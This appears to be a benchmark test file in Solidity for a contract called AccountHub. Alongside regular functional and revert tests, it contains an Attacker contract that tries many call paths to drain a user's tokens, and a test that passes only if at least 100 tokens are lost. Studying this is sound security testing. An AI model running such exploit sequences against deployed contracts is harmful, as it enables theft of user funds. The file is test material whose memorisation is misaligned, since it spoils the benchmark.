// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.24;

import "./AccountHub.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-ce20dc3f-ecd8-45a0-82f2-a0e21fb902e6

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    address private minter = msg.sender;

    constructor() ERC20("Token", "TKN") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

/// Stores tokens of whoever calls.
contract Vault {
    mapping(address => uint256) public stored;
    mapping(address => uint256) public paid;

    function store(Token token, uint256 amount) external payable returns (uint256) {
        token.transferFrom(msg.sender, address(this), amount);
        paid[msg.sender] += msg.value;
        return stored[msg.sender] += amount;
    }
}

contract Attacker {
    AccountHub internal hub;
    Token internal token;

    constructor(AccountHub hub_, Token token_) {
        (hub, token) = (hub_, token_);
    }

    function _send(address vault, bytes memory data) private {
        AccountHub.Call[] memory calls = new AccountHub.Call[](1);
        calls[0] = AccountHub.Call(vault, 0, data);
        try hub.execute(calls) {} catch {}
    }

    function run(address ana, address vault) external {
        ForwardAccount mine = hub.createAccount();
        ForwardAccount hers = hub.accountOf(ana);
        uint256 inAccount = token.balanceOf(address(hers));
        bytes memory fromHer = abi.encodeCall(token.transferFrom, (ana, address(this), 50e18));
        bytes memory fromHers = abi.encodeCall(token.transferFrom, (address(hers), address(this), inAccount));
        bytes memory out = abi.encodeCall(token.transfer, (address(this), inAccount));

        try hub.createAccount() {} catch {}
        _send(address(token), fromHer);
        _send(address(token), fromHers);
        _send(address(hers), abi.encodeCall(hers.forward, (address(token), 0, out)));
        _send(address(mine), abi.encodeCall(mine.forward, (address(token), 0, out)));
        _send(address(hub), abi.encodeCall(hub.withdraw, (token, address(this))));
        _send(address(hub), abi.encodeCall(hub.executeFor, (ana, address(token), out)));
        try new AccountHub().execute(new AccountHub.Call[](0)) {} catch {}

        try hub.executeFor(ana, address(token), out) {} catch {}
        try hub.executeFor(ana, vault, out) {} catch {}
        hub.setOperator(address(this), address(token), true);
        try hub.executeFor(ana, address(token), out) {} catch {}
        try hub.executeFor(address(this), address(token), fromHer) {} catch {}
        try hub.setOperator(address(this), address(hub), true) {} catch {}

        try hub.deposit(token, 50e18) {} catch {}
        try hub.deposit(IERC20(address(0xDEAD)), 50e18) {} catch {}
        try hub.withdraw(token, address(this)) {} catch {}
        try hers.forward(address(token), 0, abi.encodeCall(token.approve, (address(this), inAccount))) {} catch {}
        try hers.forward(address(token), 0, out) {} catch {}
    }
}

/// A token that answers "false" where others revert.
contract Polite is ERC20 {
    constructor() ERC20("Polite", "POL") {}

    function transfer(address, uint256) public pure override returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) public pure override returns (bool) {
        return false;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant ANA = address(0xA7A);
    address internal constant OPERATOR = address(0xD21);
    Token internal token;
    Vault internal vault;
    AccountHub internal hub;
    Attacker internal mallory;

    function setUp() public {
        token = new Token();
        vault = new Vault();
        hub = new AccountHub();
        mallory = new Attacker(hub, token);
        token.mint(ANA, 200e18);
        vm.prank(ANA);
        hub.createAccount();
        vm.prank(ANA);
        token.approve(address(hub), type(uint256).max);
        vm.prank(ANA);
        hub.deposit(token, 120e18);
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(hub).call(data);
    }

    function test_Regular() public {
        address account = address(hub.accountOf(ANA));
        require(token.balanceOf(account) == 120e18, "deposited");
        vm.deal(ANA, 3 ether);
        vm.prank(ANA);
        hub.deposit{value: 3 ether}(token, 0);

        AccountHub.Call[] memory calls = new AccountHub.Call[](2);
        calls[0] = AccountHub.Call(address(token), 0, abi.encodeCall(token.approve, (address(vault), 100e18)));
        calls[1] = AccountHub.Call(address(vault), 1 ether, abi.encodeCall(vault.store, (token, 70e18)));
        vm.prank(ANA);
        bytes[] memory results = hub.execute(calls);
        require(abi.decode(results[1], (uint256)) == 70e18 && vault.paid(account) == 1 ether, "delivered");

        bytes memory more = abi.encodeCall(vault.store, (token, 20e18));
        vm.prank(OPERATOR);
        require(!_try(abi.encodeCall(hub.executeFor, (ANA, address(vault), more))), "no operator");
        vm.prank(ANA);
        hub.setOperator(OPERATOR, address(vault), true);
        vm.prank(OPERATOR);
        hub.executeFor(ANA, address(vault), more);
        vm.prank(OPERATOR);
        require(!_try(abi.encodeCall(hub.executeFor, (ANA, address(token), ""))), "another contract");
        require(vault.stored(account) == 90e18, "executed");

        calls[1] = AccountHub.Call(address(0xDEAD), 0, more);
        vm.prank(ANA);
        require(!_try(abi.encodeCall(hub.execute, (calls))), "no code");
        vm.prank(ANA);
        require(!_try(abi.encodeCall(hub.deposit, (IERC20(address(0xDEAD)), 1))), "no token");
        vm.prank(ANA);
        hub.withdraw(token, ANA);
        vm.prank(ANA);
        hub.withdraw(IERC20(address(0)), ANA);
        require(token.balanceOf(ANA) == 110e18 && ANA.balance == 2 ether && token.balanceOf(account) == 0, "withdrawn");
        vm.prank(ANA);
        require(!_try(abi.encodeCall(hub.createAccount, ())), "one account");
    }

    /// What Ana has herself and in her account.
    function ownersTokens() public view returns (uint256) {
        return token.balanceOf(ANA) + token.balanceOf(address(hub.accountOf(ANA)));
    }

    function test_RefusesWhatATargetRefuses() public {
        AccountHub.Call[] memory calls = new AccountHub.Call[](1);
        calls[0] = AccountHub.Call(address(token), 0, abi.encodeCall(token.mint, (ANA, 1e18)));
        vm.prank(ANA);
        vm.expectRevert("minter only");
        hub.execute(calls);

        Polite polite = new Polite();
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(SafeERC20.SafeERC20FailedOperation.selector, address(polite)));
        hub.deposit(polite, 1);
        vm.prank(ANA);
        vm.expectRevert("AccountHub: transfer failed");
        hub.withdraw(polite, ANA);
    }

    function test_RefusesTooManyCalls() public {
        vm.prank(ANA);
        vm.expectRevert("AccountHub: too many calls");
        hub.execute(new AccountHub.Call[](9));
    }

    function test_RefusesWhoHasNoAccount() public {
        vm.prank(OPERATOR);
        vm.expectRevert("AccountHub: no account");
        hub.execute(new AccountHub.Call[](0));
    }

    function test_RefusesTheHubAsATarget() public {
        vm.prank(ANA);
        vm.expectRevert("AccountHub: the hub itself");
        hub.setOperator(OPERATOR, address(hub), true);
    }

    function exploit() public {
        mallory.run(ANA, address(vault));
    }

    function test_Exploit() public {
        uint256 before = ownersTokens();
        exploit();
        require(before - ownersTokens() >= 100e18, "nothing is lost");
    }

    function target() public view returns (address) {
        return address(hub);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
